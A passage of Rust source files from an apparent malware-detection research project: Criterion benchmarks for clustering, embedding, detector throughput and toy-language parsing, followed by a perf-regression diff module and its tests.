                (0..NNZ).map(|_| rng.gen_range(-1.0f32..1.0)).collect();
            let norm = values.iter().map(|v| v * v).sum::<f32>().sqrt();
            values.iter_mut().for_each(|v| *v /= norm);
            (indices, values)
        })
        .collect()
}

fn points_from(rows: &[(Vec<u32>, Vec<f32>)]) -> Points {
    let refs: Vec<(&[u32], &[f32])> = rows
        .iter()
        .map(|(i, v)| (i.as_slice(), v.as_slice()))
        .collect();
    Points::from_sparse_rows(DIM, &refs)
}

/// The dot ladder over 256 fixed pairs of dim-3072 vectors: what one
/// candidate evaluation costs under each representation.
fn bench_dot_kernels(c: &mut Criterion) {
    let rows = sparse_unit_rows(128, 1);
    let points = points_from(&rows);
    let (matrix, sparse, quant) = (points.matrix(), points.sparse(), points.quant());
    let pairs: Vec<(usize, usize)> = (0..256).map(|p| (p % 128, (p * 37 + 1) % 128)).collect();
    let mut group = c.benchmark_group("dot_3072_nnz350");
    group.bench_function("dense_scalar", |b| {
        b.iter(|| {
            pairs
                .iter()
                .map(|&(i, j)| dense_dot(matrix.row(i), matrix.row(j)))
                .sum::<f32>()
        })
    });
    group.bench_function("sparse_dense", |b| {
        b.iter(|| {
            pairs
                .iter()
                .map(|&(i, j)| {
                    let (si, sv) = sparse.row(i);
                    sparse_dot_dense(si, sv, matrix.row(j))
                })
                .sum::<f32>()
        })
    });
    group.bench_function("sparse_sparse", |b| {
        b.iter(|| {
            pairs
                .iter()
                .map(|&(i, j)| {
                    let (ai, av) = sparse.row(i);
                    let (bi, bv) = sparse.row(j);
                    sparse_dot_sparse(ai, av, bi, bv)
                })
                .sum::<f32>()
        })
    });
    group.bench_function("quant_window", |b| {
        b.iter(|| {
            pairs
                .iter()
                .map(|&(i, j)| quant.dot_window(i, quant, j).0)
                .sum::<f64>()
        })
    });
    group.finish();
}

/// Full Lloyd runs under each assignment kernel — same data, same seed,
/// bitwise-identical output, different wall time.
fn bench_assignment_kernels(c: &mut Criterion) {
    let rows = sparse_unit_rows(512, 2);
    let points = points_from(&rows);
    let config = KMeansConfig {
        max_iters: 6,
        tolerance: 1e-3,
        threads: 1,
        ..KMeansConfig::default()
    };
    let mut group = c.benchmark_group("assign_512x3072_k16");
    group.sample_size(10);
    for kernel in [Kernel::DenseScalar, Kernel::Tiled, Kernel::TiledQuantized] {
        let config = KMeansConfig { kernel, ..config.clone() };
        group.bench_with_input(
            BenchmarkId::from_parameter(format!("{kernel:?}")),
            &config,
            |b, config| {
                b.iter(|| {
                    let mut rng = StdRng::seed_from_u64(3);
                    kmeans_points(&points, 16, config, &mut rng)
                })
            },
        );
    }
    group.finish();
}

criterion_group!(benches, bench_dot_kernels, bench_assignment_kernels);
criterion_main!(benches);
