//! Similarity-pipeline benchmarks: embedding and K-Means — the costly
//! stages behind the SG construction (paper §III-A).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use cluster::{kmeans, kmeans_warm, serial, KMeansConfig};
use embed::Embedder;
use minilang::gen::{generate, Behavior};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

fn code_corpus(n: usize, seed: u64) -> Vec<minilang::Module> {
    let mut rng = StdRng::seed_from_u64(seed);
    (0..n)
        .map(|i| generate(Behavior::ALL[i % Behavior::ALL.len()], &mut rng))
        .collect()
}

fn bench_embedding(c: &mut Criterion) {
    let corpus = code_corpus(64, 1);
    let mut group = c.benchmark_group("embed_64_modules");
    for &dim in &[256usize, 1024, 3072] {
        let embedder = Embedder::new(dim);
        group.bench_with_input(BenchmarkId::from_parameter(dim), &dim, |b, _| {
            b.iter(|| {
                corpus
                    .iter()
                    .map(|m| embedder.embed(m))
                    .collect::<Vec<_>>()
            })
        });
    }
    group.finish();
}

fn bench_kmeans(c: &mut Criterion) {
    let embedder = Embedder::new(256);
    let corpus = code_corpus(200, 2);
    let data: Vec<Vec<f32>> = corpus
        .iter()
        .map(|m| embedder.embed(m).as_slice().to_vec())
        .collect();
    let mut group = c.benchmark_group("kmeans_200x256");
    group.sample_size(10);
    for &k in &[4usize, 16, 64] {
        group.bench_with_input(BenchmarkId::from_parameter(k), &k, |b, &k| {
            let mut rng = StdRng::seed_from_u64(3);
            b.iter(|| kmeans(&data, k, &KMeansConfig::default(), &mut rng));
        });
    }
    group.finish();
}

/// Synthetic blob data: `n` points around `centers` overlapping centers
/// in `dim` dimensions — far cheaper to produce than embedding `n`
/// generated modules. The noise is deliberately comparable to the center
/// spread so Lloyd needs several iterations, as it does on real
/// embedding corpora (trivially-separated blobs converge in two).
fn blob_data(n: usize, dim: usize, centers: usize, seed: u64) -> Vec<Vec<f32>> {
    let mut rng = StdRng::seed_from_u64(seed);
    let centroids: Vec<Vec<f32>> = (0..centers)
        .map(|_| (0..dim).map(|_| rng.gen_range(-1.0f32..1.0)).collect())
        .collect();
    (0..n)
        .map(|i| {
            let c = &centroids[i % centers];
            c.iter().map(|v| v + rng.gen_range(-0.6f32..0.6)).collect()
        })
        .collect()
}

/// Engine ablation (DESIGN.md §6): the retained seed serial
/// implementation vs. the parallel engine vs. a warm-started schedule
/// step, all on the same data and the same iteration budget.
fn bench_engines(c: &mut Criterion) {
    let data = blob_data(1000, 256, 24, 4);
    let config = KMeansConfig {
        max_iters: 25,
        tolerance: 1e-3,
        ..KMeansConfig::default()
    };
    let k = 32usize;
    let mut group = c.benchmark_group("kmeans_engine_1000x256_k32");
    group.sample_size(10);
    group.bench_function("seed_serial", |b| {
        let mut rng = StdRng::seed_from_u64(5);
        b.iter(|| serial::kmeans(&data, k, &config, &mut rng));
    });
    group.bench_function("parallel", |b| {
        let mut rng = StdRng::seed_from_u64(5);
        b.iter(|| kmeans(&data, k, &config, &mut rng));
    });
    // The grow-k schedule step: reach k warm-started from the previous
    // step's centroids (k − 8) instead of restarting from scratch.
    let mut rng = StdRng::seed_from_u64(5);
    let prev = kmeans(&data, k - 8, &config, &mut rng);
    group.bench_function("parallel_warm_step", |b| {
        let mut rng = StdRng::seed_from_u64(6);
        b.iter(|| kmeans_warm(&data, &prev.centroids, 8, &config, &mut rng));
    });
    group.finish();
}

/// The acceptance-criterion configuration of ISSUE 1: n = 5000,
/// dim = 1024, k = 64 — parallel + warm-start must beat the seed serial
/// engine (numbers recorded in `BENCH_PR1.json` by the `kmeans_bench`
/// binary).
fn bench_engines_5k(c: &mut Criterion) {
    // Same data / seeds / config as the `kmeans_bench` binary, so these
    // samples and BENCH_PR1.json describe the identical workload.
    let data = blob_data(5000, 1024, 48, 5000);
    let config = KMeansConfig {
        max_iters: 25,
        tolerance: 1e-3,
        ..KMeansConfig::default()
    };
    let k = 64usize;
    let mut group = c.benchmark_group("kmeans_engine_5000x1024_k64");
    group.sample_size(3);
    group.bench_function("seed_serial", |b| {
        b.iter(|| {
            let mut rng = StdRng::seed_from_u64(1);
            serial::kmeans(&data, k, &config, &mut rng)
        });
    });
    group.bench_function("parallel", |b| {
        b.iter(|| {
            let mut rng = StdRng::seed_from_u64(1);
            kmeans(&data, k, &config, &mut rng)
        });
    });
    let mut rng = StdRng::seed_from_u64(1);
    let prev = kmeans(&data, k - 16, &config, &mut rng);
    group.bench_function("parallel_warm_step", |b| {
        b.iter(|| {
            let mut rng = StdRng::seed_from_u64(2);
            kmeans_warm(&data, &prev.centroids, 16, &config, &mut rng)
        });
    });
    group.finish();
}

criterion_group!(benches, bench_embedding, bench_kmeans, bench_engines, bench_engines_5k);
criterion_main!(benches);
