//! Similarity-pipeline benchmarks: embedding and K-Means — the costly
//! stages behind the SG construction (paper §III-A).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use cluster::{kmeans, KMeansConfig};
use embed::Embedder;
use minilang::gen::{generate, Behavior};
use rand::rngs::StdRng;
use rand::SeedableRng;

fn code_corpus(n: usize, seed: u64) -> Vec<minilang::Module> {
    let mut rng = StdRng::seed_from_u64(seed);
    (0..n)
        .map(|i| generate(Behavior::ALL[i % Behavior::ALL.len()], &mut rng))
        .collect()
}

fn bench_embedding(c: &mut Criterion) {
    let corpus = code_corpus(64, 1);
    let mut group = c.benchmark_group("embed_64_modules");
    for &dim in &[256usize, 1024, 3072] {
        let embedder = Embedder::new(dim);
        group.bench_with_input(BenchmarkId::from_parameter(dim), &dim, |b, _| {
            b.iter(|| {
                corpus
                    .iter()
                    .map(|m| embedder.embed(m))
                    .collect::<Vec<_>>()
            })
        });
    }
    group.finish();
}

fn bench_kmeans(c: &mut Criterion) {
    let embedder = Embedder::new(256);
    let corpus = code_corpus(200, 2);
    let data: Vec<Vec<f32>> = corpus
        .iter()
        .map(|m| embedder.embed(m).as_slice().to_vec())
        .collect();
    let mut group = c.benchmark_group("kmeans_200x256");
    group.sample_size(10);
    for &k in &[4usize, 16, 64] {
        group.bench_with_input(BenchmarkId::from_parameter(k), &k, |b, &k| {
            let mut rng = StdRng::seed_from_u64(3);
            b.iter(|| kmeans(&data, k, &KMeansConfig::default(), &mut rng));
        });
    }
    group.finish();
}

criterion_group!(benches, bench_embedding, bench_kmeans);
criterion_main!(benches);
