//! Detector benchmarks: static-scan vs sandbox-execution throughput —
//! the cost trade-off behind "today's defense tools work well".

use criterion::{criterion_group, criterion_main, Criterion};
use detector::{DynamicDetector, StaticDetector};
use minilang::gen::{generate, generate_benign, Behavior};
use rand::rngs::StdRng;
use rand::SeedableRng;

fn corpus(n: usize, seed: u64) -> Vec<minilang::Module> {
    let mut rng = StdRng::seed_from_u64(seed);
    (0..n)
        .map(|i| {
            if i % 4 == 0 {
                generate_benign(&mut rng)
            } else {
                generate(Behavior::ALL[i % Behavior::ALL.len()], &mut rng)
            }
        })
        .collect()
}

fn bench_static_scan(c: &mut Criterion) {
    let detector = StaticDetector::default();
    let modules = corpus(50, 1);
    c.bench_function("static_scan_50_modules", |b| {
        b.iter(|| {
            modules
                .iter()
                .filter(|m| detector.scan(m, None).malicious)
                .count()
        })
    });
}

fn bench_dynamic_analysis(c: &mut Criterion) {
    let detector = DynamicDetector::default();
    let modules = corpus(50, 2);
    let mut group = c.benchmark_group("sandbox_50_modules");
    group.sample_size(20);
    group.bench_function("default_fuel", |b| {
        b.iter(|| {
            modules
                .iter()
                .filter(|m| detector.analyze(m).malicious())
                .count()
        })
    });
    group.finish();
}

fn bench_single_module_pipeline(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(3);
    let module = generate(Behavior::InfoStealer, &mut rng);
    let static_d = StaticDetector::default();
    let dynamic_d = DynamicDetector::default();
    let mut group = c.benchmark_group("per_module");
    group.bench_function("static", |b| b.iter(|| static_d.scan(&module, None)));
    group.bench_function("dynamic", |b| b.iter(|| dynamic_d.analyze(&module)));
    group.finish();
}

criterion_group!(
    benches,
    bench_static_scan,
    bench_dynamic_analysis,
    bench_single_module_pipeline
);
criterion_main!(benches);
