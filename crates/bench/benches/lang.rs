//! Language-substrate benchmarks: lexing, parsing, printing,
//! canonicalization and diffing — the per-package costs of the SBOM/AST
//! extraction role (paper §III-C, Packj).

use criterion::{criterion_group, criterion_main, Criterion};
use minilang::canon::canonicalize;
use minilang::diff::line_diff;
use minilang::gen::{generate, mutate, Behavior, Mutation};
use minilang::printer::print_module;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn sample_source() -> String {
    let mut rng = StdRng::seed_from_u64(1);
    let m = generate(Behavior::InfoStealer, &mut rng);
    print_module(&m)
}

fn bench_parse(c: &mut Criterion) {
    let src = sample_source();
    c.bench_function("parse_malicious_module", |b| {
        b.iter(|| minilang::parse(&src).expect("generated code parses"))
    });
}

fn bench_print(c: &mut Criterion) {
    let src = sample_source();
    let module = minilang::parse(&src).expect("parses");
    c.bench_function("print_module", |b| b.iter(|| print_module(&module)));
}

fn bench_canonicalize(c: &mut Criterion) {
    let src = sample_source();
    let module = minilang::parse(&src).expect("parses");
    c.bench_function("canonicalize", |b| b.iter(|| canonicalize(&module)));
}

fn bench_diff(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(2);
    let base = generate(Behavior::Backdoor, &mut rng);
    let mutated = mutate(&base, Mutation::InsertBenignFunction, &mut rng);
    c.bench_function("line_diff_cc", |b| b.iter(|| line_diff(&base, &mutated)));
}

fn bench_generate(c: &mut Criterion) {
    c.bench_function("generate_module", |b| {
        let mut rng = StdRng::seed_from_u64(3);
        b.iter(|| generate(Behavior::ExfilAws, &mut rng))
    });
}

criterion_group!(
    benches,
    bench_parse,
    bench_print,
    bench_canonicalize,
    bench_diff,
    bench_generate
);
criterion_main!(benches);
