//! Perf baselines and the regression sentinel behind
//! `malgraph perf diff`.
//!
//! A [`PerfProfile`] is a flat, name-sorted list of numeric metrics
//! loaded from either kind of perf artifact this repo produces:
//!
//! * an **obs snapshot** (`malgraph-obs/1` or `/2` JSON from
//!   `--metrics-out`): spans become `span/<path>/total_us` (+
//!   `/self_us` and `/alloc_bytes` under schema `/2`) and counters
//!   become `counter/<name>`;
//! * a **bench report** (`BENCH_*.json`): the object tree is flattened
//!   to dotted paths and leaves are classified by field-name suffix —
//!   `*_us` / `*_ms` / `*_s` are wall times (normalized to µs), other
//!   numbers are informational.
//!
//! [`diff`] compares two profiles entry-by-entry under noise
//! [`Thresholds`]: a time or count has **regressed** only when it grew
//! by *more than* the relative threshold **and** by more than the
//! absolute floor — the floor keeps µs-scale spans (including
//! zero-duration ones) from tripping the gate on scheduler jitter, and
//! the strict `>` means an exactly-at-threshold delta still passes.
//! Entries missing from the baseline are reported as *added*, never as
//! regressions, so extending a bench does not break CI. Informational
//! entries never regress.

use jsonio::Value;
use std::fmt::Write as _;

/// What a metric measures, which decides whether growth can regress.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum MetricKind {
    /// A wall time; `us_per_unit` converts the raw value to microseconds
    /// (1.0 for `_us` fields, 1000.0 for `_ms`, 1e6 for `_s`).
    Time {
        /// Microseconds per raw unit.
        us_per_unit: f64,
    },
    /// A monotone work/volume counter (obs counters, span alloc bytes).
    Count,
    /// Configuration or derived values (speedups, sizes, gauge readings):
    /// compared for display but never a regression.
    Info,
}

impl MetricKind {
    /// Multiplier taking the raw value into the unit the absolute floor
    /// for this kind is expressed in (µs for times, raw for counts).
    fn floor_scale(self) -> f64 {
        match self {
            MetricKind::Time { us_per_unit } => us_per_unit,
            _ => 1.0,
        }
    }
}

/// One named measurement inside a [`PerfProfile`].
#[derive(Debug, Clone, PartialEq)]
pub struct Metric {
    /// Raw value as it appeared in the file.
    pub value: f64,
    /// Classification controlling regression semantics.
    pub kind: MetricKind,
}

/// A flat, name-sorted perf artifact ready for diffing.
#[derive(Debug, Clone, PartialEq)]
pub struct PerfProfile {
    /// Where the profile came from (file path or caller-supplied label).
    pub label: String,
    /// `(metric name, metric)`, sorted by name, names unique.
    pub entries: Vec<(String, Metric)>,
}

/// Noise tolerances for [`diff`]. A delta must clear **both** the
/// relative threshold and the kind's absolute floor to count.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Thresholds {
    /// Relative growth allowed before a regression, e.g. `0.10` = +10%.
    pub rel: f64,
    /// Absolute floor for [`MetricKind::Time`] deltas, in microseconds.
    pub floor_us: f64,
    /// Absolute floor for [`MetricKind::Count`] deltas, in raw units.
    pub floor_count: f64,
}

impl Default for Thresholds {
    fn default() -> Self {
        Thresholds { rel: 0.10, floor_us: 500.0, floor_count: 512.0 }
    }
}

/// Outcome for one metric in a [`DiffReport`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// Within thresholds (or informational).
    Ok,
    /// Shrank past both thresholds — reported, never fails the gate.
    Improved,
    /// Grew past both thresholds.
    Regressed,
    /// Present only in the new profile — never a failure.
    Added,
    /// Present only in the baseline.
    Removed,
}

impl Verdict {
    /// Lowercase tag used in rendered reports.
    pub fn tag(self) -> &'static str {
        match self {
            Verdict::Ok => "ok",
            Verdict::Improved => "improved",
            Verdict::Regressed => "REGRESSED",
            Verdict::Added => "added",
            Verdict::Removed => "removed",
        }
    }
}

/// One compared metric.
#[derive(Debug, Clone, PartialEq)]
pub struct DiffEntry {
    /// Metric name (shared namespace across both profiles).
    pub name: String,
    /// Classification (taken from whichever side has the entry; the new
    /// side wins when both do).
    pub kind: MetricKind,
    /// Baseline raw value, if present.
    pub base: Option<f64>,
    /// New raw value, if present.
    pub new: Option<f64>,
    /// The call.
    pub verdict: Verdict,
}

/// Full comparison of two [`PerfProfile`]s.
#[derive(Debug, Clone, PartialEq)]
pub struct DiffReport {
    /// Baseline label.
    pub base_label: String,
    /// New-profile label.
    pub new_label: String,
    /// Thresholds the verdicts were computed under.
    pub thresholds: Thresholds,
    /// Every metric from either side, name-sorted.
    pub entries: Vec<DiffEntry>,
}

impl DiffReport {
    /// True when at least one metric regressed — the gate's exit signal.
    pub fn has_regressions(&self) -> bool {
        self.entries.iter().any(|e| e.verdict == Verdict::Regressed)
    }

    /// `(regressed, improved, added, removed)` counts.
    pub fn tally(&self) -> (usize, usize, usize, usize) {
        let mut t = (0, 0, 0, 0);
        for e in &self.entries {
            match e.verdict {
                Verdict::Regressed => t.0 += 1,
                Verdict::Improved => t.1 += 1,
                Verdict::Added => t.2 += 1,
                Verdict::Removed => t.3 += 1,
                Verdict::Ok => {}
            }
        }
        t
    }

    /// Human-readable report. Non-`Ok` rows always print; `verbose` adds
    /// the unchanged ones. Ends with a one-line summary.
    pub fn render(&self, verbose: bool) -> String {
        let mut out = String::new();
        let _ = writeln!(
            out,
            "perf diff: {} -> {}  (rel {:.0}%, floor {}us / {} count)",
            self.base_label,
            self.new_label,
            self.thresholds.rel * 100.0,
            self.thresholds.floor_us,
            self.thresholds.floor_count
        );
        let width =
            self.entries.iter().map(|e| e.name.len()).max().unwrap_or(6).clamp(6, 72);
        for entry in &self.entries {
            if !verbose && entry.verdict == Verdict::Ok {
                continue;
            }
            let fmt_side = |v: Option<f64>| match v {
                Some(v) if v.fract() == 0.0 && v.abs() < 1e15 => format!("{v:.0}"),
                Some(v) => format!("{v:.3}"),
                None => "-".to_string(),
            };
            let delta = match (entry.base, entry.new) {
                (Some(b), Some(n)) if b != 0.0 => format!("{:+.1}%", (n - b) / b * 100.0),
                (Some(_), Some(n)) if n != 0.0 => "+inf%".to_string(),
                _ => "".to_string(),
            };
            let _ = writeln!(
                out,
                "  {:<width$} {:>14} {:>14} {:>9}  {}",
                entry.name,
                fmt_side(entry.base),
                fmt_side(entry.new),
                delta,
                entry.verdict.tag(),
            );
        }
        let (reg, imp, add, rem) = self.tally();
        let compared = self.entries.iter().filter(|e| e.base.is_some() && e.new.is_some()).count();
        let _ = writeln!(
            out,
            "{}: {compared} compared, {reg} regressed, {imp} improved, {add} added, {rem} removed",
            if reg > 0 { "FAIL" } else { "OK" }
        );
        out
    }
}

/// Classify a flattened bench field by its final path segment.
fn classify_bench_field(name: &str) -> MetricKind {
    let leaf = name.rsplit('.').next().unwrap_or(name);
    let leaf = leaf.split('[').next().unwrap_or(leaf);
    if leaf.ends_with("_us") {
        MetricKind::Time { us_per_unit: 1.0 }
    } else if leaf.ends_with("_ms") {
        MetricKind::Time { us_per_unit: 1_000.0 }
    } else if leaf.ends_with("_s") || leaf.ends_with("_sec") || leaf.ends_with("_secs") {
        MetricKind::Time { us_per_unit: 1_000_000.0 }
    } else {
        MetricKind::Info
    }
}

fn flatten_bench(prefix: &str, value: &Value, out: &mut Vec<(String, Metric)>) {
    match value {
        Value::Object(members) => {
            for (key, child) in members {
                let path =
                    if prefix.is_empty() { key.clone() } else { format!("{prefix}.{key}") };
                flatten_bench(&path, child, out);
            }
        }
        Value::Array(items) => {
            for (i, child) in items.iter().enumerate() {
                flatten_bench(&format!("{prefix}[{i}]"), child, out);
            }
        }
        _ => {
            if let Some(v) = value.as_f64() {
                out.push((prefix.to_string(), Metric { value: v, kind: classify_bench_field(prefix) }));
            }
        }
    }
}

impl PerfProfile {
    /// Parse a profile from JSON text. Objects carrying a
    /// `"schema": "malgraph-obs/…"` key load as obs snapshots; anything
    /// else loads as a flattened bench report.
    pub fn from_json_str(label: &str, text: &str) -> Result<PerfProfile, String> {
        let root = Value::parse(text).map_err(|e| format!("{label}: {e}"))?;
        let schema = root.get("schema").and_then(Value::as_str);
        let mut entries = match schema {
            Some(s) if s.starts_with("malgraph-obs/") => {
                if s != "malgraph-obs/1" && s != "malgraph-obs/2" {
                    return Err(format!("{label}: unsupported snapshot schema {s:?}"));
                }
                Self::snapshot_entries(&root)
            }
            Some(s) => return Err(format!("{label}: unsupported schema {s:?}")),
            None => {
                let mut entries = Vec::new();
                flatten_bench("", &root, &mut entries);
                if entries.is_empty() {
                    return Err(format!("{label}: no numeric fields found"));
                }
                entries
            }
        };
        entries.sort_by(|a, b| a.0.cmp(&b.0));
        entries.dedup_by(|a, b| a.0 == b.0);
        Ok(PerfProfile { label: label.to_string(), entries })
    }

    /// Load a profile from disk; the path becomes the label.
    pub fn from_file(path: &std::path::Path) -> Result<PerfProfile, String> {
        let text = std::fs::read_to_string(path)
            .map_err(|e| format!("{}: {e}", path.display()))?;
        Self::from_json_str(&path.display().to_string(), &text)
    }

    fn snapshot_entries(root: &Value) -> Vec<(String, Metric)> {
        let mut entries = Vec::new();
        if let Some(counters) = root.get("counters").and_then(Value::as_object) {
            for (name, value) in counters {
                if let Some(v) = value.as_f64() {
                    entries.push((format!("counter/{name}"), Metric { value: v, kind: MetricKind::Count }));
                }
            }
        }
        if let Some(gauges) = root.get("gauges").and_then(Value::as_object) {
            for (name, value) in gauges {
                if let Some(v) = value.as_f64() {
                    entries.push((format!("gauge/{name}"), Metric { value: v, kind: MetricKind::Info }));
                }
            }
        }
        if let Some(spans) = root.get("spans").and_then(Value::as_object) {
            let us = MetricKind::Time { us_per_unit: 1.0 };
            for (name, span) in spans {
                for (field, kind) in
                    [("total_us", us), ("self_us", us), ("alloc_bytes", MetricKind::Count)]
                {
                    if let Some(v) = span.get(field).and_then(Value::as_f64) {
                        entries.push((format!("span/{name}/{field}"), Metric { value: v, kind }));
                    }
                }
            }
        }
        entries
    }
}

/// Verdict for one metric present on both sides.
fn judge(kind: MetricKind, base: f64, new: f64, th: &Thresholds) -> Verdict {
    let floor = match kind {
        MetricKind::Time { .. } => th.floor_us,
        MetricKind::Count => th.floor_count,
        MetricKind::Info => return Verdict::Ok,
    };
    let scale = kind.floor_scale();
    let abs_delta = (new - base) * scale;
    // Strict `>` on both tests: a delta landing exactly on the relative
    // threshold (or exactly on the floor) still passes the gate.
    if new > base * (1.0 + th.rel) && abs_delta > floor {
        Verdict::Regressed
    } else if new < base * (1.0 - th.rel) && -abs_delta > floor {
        Verdict::Improved
    } else {
        Verdict::Ok
    }
}

/// Compare two profiles. Every metric appearing in either side yields a
/// [`DiffEntry`]; the result is name-sorted and deterministic.
pub fn diff(base: &PerfProfile, new: &PerfProfile, thresholds: &Thresholds) -> DiffReport {
    let mut entries = Vec::new();
    let (mut i, mut j) = (0, 0);
    while i < base.entries.len() || j < new.entries.len() {
        let take_base = j >= new.entries.len()
            || (i < base.entries.len() && base.entries[i].0 <= new.entries[j].0);
        let take_new = i >= base.entries.len()
            || (j < new.entries.len() && new.entries[j].0 <= base.entries[i].0);
        match (take_base, take_new) {
            (true, true) => {
                let (name, b) = &base.entries[i];
                let n = &new.entries[j].1;
                entries.push(DiffEntry {
                    name: name.clone(),
                    kind: n.kind,
                    base: Some(b.value),
                    new: Some(n.value),
                    verdict: judge(n.kind, b.value, n.value, thresholds),
                });
                i += 1;
                j += 1;
            }
            (true, false) => {
                let (name, b) = &base.entries[i];
                entries.push(DiffEntry {
                    name: name.clone(),
                    kind: b.kind,
                    base: Some(b.value),
                    new: None,
                    verdict: Verdict::Removed,
                });
                i += 1;
            }
            (false, true) => {
                let (name, n) = &new.entries[j];
                entries.push(DiffEntry {
                    name: name.clone(),
                    kind: n.kind,
                    base: None,
                    new: Some(n.value),
                    verdict: Verdict::Added,
                });
                j += 1;
            }
            (false, false) => unreachable!("merge must advance"),
        }
    }
    DiffReport {
        base_label: base.label.clone(),
        new_label: new.label.clone(),
        thresholds: *thresholds,
        entries,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const US: MetricKind = MetricKind::Time { us_per_unit: 1.0 };

    fn profile(label: &str, entries: &[(&str, f64, MetricKind)]) -> PerfProfile {
        let mut entries: Vec<(String, Metric)> = entries
            .iter()
            .map(|(n, v, k)| (n.to_string(), Metric { value: *v, kind: *k }))
            .collect();
        entries.sort_by(|a, b| a.0.cmp(&b.0));
        PerfProfile { label: label.to_string(), entries }
    }

    fn one_verdict(base_v: f64, new_v: f64, kind: MetricKind, th: &Thresholds) -> Verdict {
        let report =
            diff(&profile("b", &[("m", base_v, kind)]), &profile("n", &[("m", new_v, kind)]), th);
        report.entries[0].verdict
    }

    #[test]
    fn growth_past_both_thresholds_regresses() {
        let th = Thresholds::default();
        assert_eq!(one_verdict(100_000.0, 115_000.0, US, &th), Verdict::Regressed);
        assert_eq!(one_verdict(100_000.0, 89_000.0, US, &th), Verdict::Improved);
        assert_eq!(one_verdict(100_000.0, 105_000.0, US, &th), Verdict::Ok, "within rel");
    }

    #[test]
    fn exactly_at_threshold_is_ok() {
        let th = Thresholds::default();
        // +10.0% exactly: strict `>` must not fire.
        assert_eq!(one_verdict(100_000.0, 110_000.0, US, &th), Verdict::Ok);
        // One µs past the relative bound does fire (floor long cleared).
        assert_eq!(one_verdict(100_000.0, 110_001.0, US, &th), Verdict::Regressed);
        // Delta exactly equal to the floor must not fire either.
        let th_tight = Thresholds { rel: 0.0, floor_us: 500.0, floor_count: 0.0 };
        assert_eq!(one_verdict(1_000.0, 1_500.0, US, &th_tight), Verdict::Ok);
        assert_eq!(one_verdict(1_000.0, 1_501.0, US, &th_tight), Verdict::Regressed);
    }

    #[test]
    fn zero_duration_base_is_shielded_by_the_floor() {
        let th = Thresholds::default();
        // Any growth from 0 beats every relative threshold; only the
        // absolute floor keeps µs-jitter spans from failing the gate.
        assert_eq!(one_verdict(0.0, 499.0, US, &th), Verdict::Ok);
        assert_eq!(one_verdict(0.0, 501.0, US, &th), Verdict::Regressed);
    }

    #[test]
    fn missing_in_base_is_added_not_regressed() {
        let th = Thresholds::default();
        let base = profile("b", &[("old", 10.0, US)]);
        let new = profile("n", &[("brand_new", 9e9, US), ("old", 10.0, US)]);
        let report = diff(&base, &new, &th);
        assert!(!report.has_regressions());
        let entry = report.entries.iter().find(|e| e.name == "brand_new").unwrap();
        assert_eq!(entry.verdict, Verdict::Added);
        assert_eq!(entry.base, None);
        let reverse = diff(&new, &base, &th);
        assert_eq!(
            reverse.entries.iter().find(|e| e.name == "brand_new").unwrap().verdict,
            Verdict::Removed
        );
    }

    #[test]
    fn info_metrics_never_regress() {
        let th = Thresholds::default();
        assert_eq!(one_verdict(1.0, 1e12, MetricKind::Info, &th), Verdict::Ok);
    }

    #[test]
    fn count_metrics_use_the_count_floor() {
        let th = Thresholds::default();
        let count = MetricKind::Count;
        assert_eq!(one_verdict(100.0, 200.0, count, &th), Verdict::Ok, "under floor_count");
        assert_eq!(one_verdict(10_000.0, 12_000.0, count, &th), Verdict::Regressed);
    }

    #[test]
    fn identical_profiles_diff_clean() {
        let th = Thresholds::default();
        let p = profile("same", &[("a_us", 5.0, US), ("b", 3.0, MetricKind::Count)]);
        let report = diff(&p, &p, &th);
        assert!(!report.has_regressions());
        assert!(report.entries.iter().all(|e| e.verdict == Verdict::Ok));
        assert_eq!(report.tally(), (0, 0, 0, 0));
    }

    #[test]
    fn bench_files_flatten_and_classify_by_suffix() {
        let text = r#"{
            "bench": "demo",
            "full_build_ms": 250,
            "config": {"n": 5000, "speedup_vs_dense": 3.5},
            "results": [{"name": "warm", "elapsed_us": 1200, "wall_s": 2.5}]
        }"#;
        let p = PerfProfile::from_json_str("BENCH_X.json", text).unwrap();
        let kind = |name: &str| {
            p.entries.iter().find(|(n, _)| n == name).map(|(_, m)| m.kind).unwrap()
        };
        assert_eq!(kind("full_build_ms"), MetricKind::Time { us_per_unit: 1_000.0 });
        assert_eq!(kind("results[0].elapsed_us"), MetricKind::Time { us_per_unit: 1.0 });
        assert_eq!(
            kind("results[0].wall_s"),
            MetricKind::Time { us_per_unit: 1_000_000.0 }
        );
        assert_eq!(kind("config.n"), MetricKind::Info);
        assert_eq!(kind("config.speedup_vs_dense"), MetricKind::Info);
        assert!(p.entries.iter().all(|(n, _)| n != "bench"), "strings are skipped");
        let names: Vec<&str> = p.entries.iter().map(|(n, _)| n.as_str()).collect();
        let mut sorted = names.clone();
        sorted.sort();
        assert_eq!(names, sorted, "entries are name-sorted");
    }

    #[test]
    fn obs_snapshots_load_under_both_schema_ids() {
        let v1 = r#"{
            "schema": "malgraph-obs/1",
            "counters": {"build.nodes": 100},
            "gauges": {"load": 0.5},
            "histograms": {},
            "spans": {"build/parse": {"count": 1, "total_us": 900}},
            "events_dropped": 0
        }"#;
        let v2 = r#"{
            "schema": "malgraph-obs/2",
            "counters": {"build.nodes": 100},
            "gauges": {},
            "histograms": {},
            "spans": {"build/parse": {"count": 1, "total_us": 900, "self_us": 400, "alloc_bytes": 2048, "allocs": 3}},
            "events_dropped": 0
        }"#;
        let p1 = PerfProfile::from_json_str("v1", v1).unwrap();
        let p2 = PerfProfile::from_json_str("v2", v2).unwrap();
        let get = |p: &PerfProfile, name: &str| {
            p.entries.iter().find(|(n, _)| n == name).map(|(_, m)| m.clone())
        };
        assert_eq!(get(&p1, "counter/build.nodes").unwrap().kind, MetricKind::Count);
        assert_eq!(get(&p1, "span/build/parse/total_us").unwrap().value, 900.0);
        assert!(get(&p1, "span/build/parse/self_us").is_none(), "v1 has no self time");
        assert_eq!(get(&p1, "gauge/load").unwrap().kind, MetricKind::Info);
        assert_eq!(get(&p2, "span/build/parse/self_us").unwrap().value, 400.0);
